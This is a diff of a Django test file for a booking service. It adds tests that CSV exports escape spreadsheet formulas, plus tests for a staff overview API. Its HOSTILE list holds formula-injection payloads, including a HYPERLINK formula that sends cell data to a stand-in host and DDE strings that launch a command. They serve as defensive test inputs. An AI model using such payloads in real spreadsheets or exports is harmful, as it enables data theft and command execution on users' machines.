@@ -1,27 +1,141 @@
-"""What an operator is woken for (RUN-03, RUN-04)."""
+"""Cells of exports, and the overview over HTTP."""
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from typing import Any
 
 import pytest
+from access import script_token
 from accounts import a_scheduled_order
+from booking_client import a_body, post_order
 from bookings import NOW as ORDERED_AT
+from django.test import Client
+from filled_rows import filled
+from hypothesis import given
+from hypothesis import strategies as st
 from loose_rows import a_dispute, a_photo, a_refund
 from papers import a_locked_order, a_proposal, accept
 from photo_reviews import an_order_that_asks_for_photos
+from whole_orders import now
 
 from standby.core.jobs import JobHandler, Postpone, enqueue, run_next_job
 from standby.core.models import Job
 from standby.core.provider_calls import ProviderDown
+from standby.core.roles import Role
+from standby.coverage.models import AddressSearch
 from standby.documents.models import OrderFile
 from standby.messaging.models import Message
 from standby.messaging.services import outbox as notifications
 from standby.messaging.services.outbox import hold_outbox
 from standby.payments.models import Payment
 from standby.payments.providers.cards.test_mode import TestCards
+from standby.reports.rules import csv_row
 from standby.reports.selectors.what_waits import backlog
 
-pytestmark = pytest.mark.django_db
+HOSTILE = [
+    '=HYPERLINK("https://evil.test?"&A1,"x")',
+    "+1-281-555-0100",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0@x",
+    "\uff1d1+1",
+]
+FORMULA = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+
+
+def read(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_would_be_a_formula_is_text(text: str) -> None:
+    [[cell, other]] = read(csv_row([text, "x"]))
+
+    assert (cell, other) == (f"'{text}", "x")
+
+
+@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2))
+def test_whatever_is_written_is_read_again_and_no_cell_begins_a_formula(texts: list[str]) -> None:
+    [cells] = read(csv_row(texts))
+
+    assert [
+        cell.removeprefix("'") if cell != text else cell
+        for cell, text in zip(cells, texts, strict=True)
+    ] == texts
+    assert not [cell for cell in cells if cell.lstrip()[:1] in FORMULA or cell[:1] in FORMULA]
+
+
+def test_numbers_stay_numbers_and_lines_end_as_rfc_4180_has_it() -> None:
+    row = csv_row([-100, None, True, False, datetime(2025, 11, 3, 15, tzinfo=UTC), 'a "b", c'])
+
+    assert row == '-100,,yes,no,2025-11-03T15:00:00Z,"a ""b"", c"\r\n'
+
+
+OVERVIEW = "/api/staff/overview"
+
+
+def ask(browser: Client, path: str = "", **query: Any) -> Any:
+    headers = {"Authorization": f"Bearer {script_token(Role.MANAGER)}"}
+    return browser.get(f"{OVERVIEW}{path}", query_params=query, headers=headers)
+
+
+@pytest.mark.usefixtures("shop", "own_folder")
+def test_every_figure_is_told_at_once(browser: Client) -> None:
+    visitor = Client()
+    post_order(visitor, a_body(visitor))
+    search = {"zip_code": "78701", "coverage_status": "not_covered", "is_first_check": True}
+    filled(AddressSearch, created_at=now(), **search)
+
+    told = ask(browser).json()
+
+    by_stage = {stage["key"]: stage["count"] for stage in told["funnel"]}
+    assert next(iter(by_stage)) == "checked"
+    assert (by_stage["checked"], by_stage["reserved"], by_stage["fee_paid"]) == (1, 1, 0)
+    assert told["funnel"][0]["of_before_percent"] is None
+    assert told["funnel"][5]["of_before_percent"] == 100.0
+    assert told["revenue"]["received_cents"] == told["failed_messages"] == 0
+    assert [one["zip_code"] for one in told["demand"]] == ["78701"]
+    assert told["lead_times"]["visits"] == {"count": 0, "median_days": None, "p90_days": None}
+    assert told["coming_today"] == {"morning": 0, "afternoon": 0, "held": 0}
+    assert told["outbox_held_since"] is None
+    hold_outbox(restored_from=now(), now=now())
+    assert ask(browser).json()["outbox_held_since"].startswith(f"{now():%Y-%m-%d}")
+
+
+@pytest.mark.usefixtures("shop", "own_folder")
+def test_a_period_is_asked_by_its_days(browser: Client) -> None:
+    AddressSearch.objects.create(address="x", is_first_check=True, created_at=now())
+    long_ago = {"from": "2025-01-01", "to": "2025-01-31"}
+
+    assert ask(browser, **long_ago).json()["funnel"][0]["count"] == 0
+    assert ask(browser, "/checked", **long_ago).json()["count"] == 0
+    assert ask(browser, "/checked").json()["count"] == 1
+    for wrong in ({"from": "2025-02-01", "to": "2025-01-31"}, {"from": "2020-01-01"}):
+        answer = ask(browser, **wrong)
+        assert (answer.status_code, answer.json()["code"]) == (422, "period_wrong")
+    assert ask(browser, **{"from": "yesterday"}).status_code == 422
+
+
+@pytest.mark.usefixtures("shop", "own_folder")
+def test_rows_link_to_their_order_and_come_in_pages(browser: Client) -> None:
+    visitor = Client()
+    order_id = post_order(visitor, a_body(visitor)).json()["orderId"]
+
+    told = ask(browser, "/reserved").json()
+
+    assert (told["count"], told["page"], told["pages"]) == (1, 1, 1)
+    assert told["rows"][0]["order_id"] == order_id
+    assert ask(browser, "/reserved", page=2).json()["rows"] == []
+    assert ask(browser, "/reserved", page=0).status_code == 422
+    assert ask(browser, "/nonsense").status_code == 422
+
+
 NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
 
 
@@ -59,6 +173,7 @@ def oldest(*, now: datetime = NOW) -> tuple[float, float]:
     return found["messages_waiting"], found["messages_oldest_seconds"]
 
 
+@pytest.mark.django_db
 def test_nothing_waits_in_an_empty_house_until_its_outbox_is_held() -> None:
     assert set(backlog(now=NOW).values()) == {0}
 
@@ -67,6 +182,7 @@ def test_nothing_waits_in_an_empty_house_until_its_outbox_is_held() -> None:
     assert backlog(now=NOW)["outbox_held"] == 1
 
 
+@pytest.mark.django_db
 @pytest.mark.usefixtures("shop")
 def test_refunds_that_need_a_person_and_open_disputes_are_counted(cards: TestCards) -> None:
     fee = Payment.objects.get(order=a_scheduled_order(cards))
@@ -80,6 +196,7 @@ def test_refunds_that_need_a_person_and_open_disputes_are_counted(cards: TestCar
     assert (found["refunds_failed"], found["disputes_open"]) == (2, 1)
 
 
+@pytest.mark.django_db
 def test_what_waits_is_counted_and_the_oldest_tells_its_age() -> None:
     a_message("first", due_ago=timedelta(minutes=5))
     a_message("second", due_ago=timedelta(minutes=1))
@@ -93,6 +210,7 @@ def test_what_waits_is_counted_and_the_oldest_tells_its_age() -> None:
     assert found["card_events_oldest_seconds"] == 90
 
 
+@pytest.mark.django_db
 def test_a_dead_message_counts_for_two_weeks() -> None:
     a_dead_message()
 
@@ -101,6 +219,7 @@ def test_a_dead_message_counts_for_two_weeks() -> None:
     assert days == [1, 1, 0]
 
 
+@pytest.mark.django_db
 def test_a_failed_try_makes_a_message_no_younger() -> None:
     a_message("one", due_ago=timedelta(0))
 
@@ -111,6 +230,7 @@ def test_a_failed_try_makes_a_message_no_younger() -> None:
     assert oldest(now=NOW + timedelta(minutes=10)) == (1, 600)
 
 
+@pytest.mark.django_db
 def test_a_text_that_waits_for_the_morning_is_not_late_before_it() -> None:
     a_message("one", due_ago=timedelta(0))
     morning = NOW + timedelta(hours=8)
@@ -121,6 +241,7 @@ def test_a_text_that_waits_for_the_morning_is_not_late_before_it() -> None:
     assert oldest(now=morning + timedelta(minutes=5)) == (1, 300)
 
 
+@pytest.mark.django_db
 def test_a_dead_message_that_is_sent_again_counts_from_then_on() -> None:
     message = a_dead_message(due_ago=timedelta(days=2), refused_at=NOW - timedelta(days=1))
     other = a_dead_message("other")
@@ -133,12 +254,14 @@ def test_a_dead_message_that_is_sent_again_counts_from_then_on() -> None:
     assert oldest(now=NOW + timedelta(seconds=30)) == (1, 30)
 
 
+@pytest.mark.django_db
 def test_a_clock_that_was_set_back_makes_nothing_younger_than_now() -> None:
     enqueue((Job.Kind.PAYMENT_EVENT, "test:evt_1"), due_at=NOW + timedelta(hours=1))
 
     assert backlog(now=NOW)["card_events_oldest_seconds"] == 0
 
 
+@pytest.mark.django_db
 @pytest.mark.usefixtures("shop")
 def test_photos_wait_until_they_are_shown_and_count_for_a_day_when_given_up() -> None:
     order = an_order_that_asks_for_photos()
@@ -156,6 +279,7 @@ def test_photos_wait_until_they_are_shown_and_count_for_a_day_when_given_up() ->
     assert long_after["photos_given_up"] == 0
 
 
+@pytest.mark.django_db
 @pytest.mark.usefixtures("shop")
 def test_a_proposal_waits_until_it_is_made_and_counts_for_a_month_when_given_up(
     tmp_path: Path,
@@ -174,6 +298,7 @@ def test_a_proposal_waits_until_it_is_made_and_counts_for_a_month_when_given_up(
     assert (made["documents_waiting"], made["documents_given_up"]) == (0, 0)
 
 
+@pytest.mark.django_db
 @pytest.mark.usefixtures("shop")
 def test_a_certificate_waits_from_the_homeowners_yes_on(tmp_path: Path) -> None:
     accept(a_proposal(tmp_path), now=ORDERED_AT + timedelta(minutes=1))
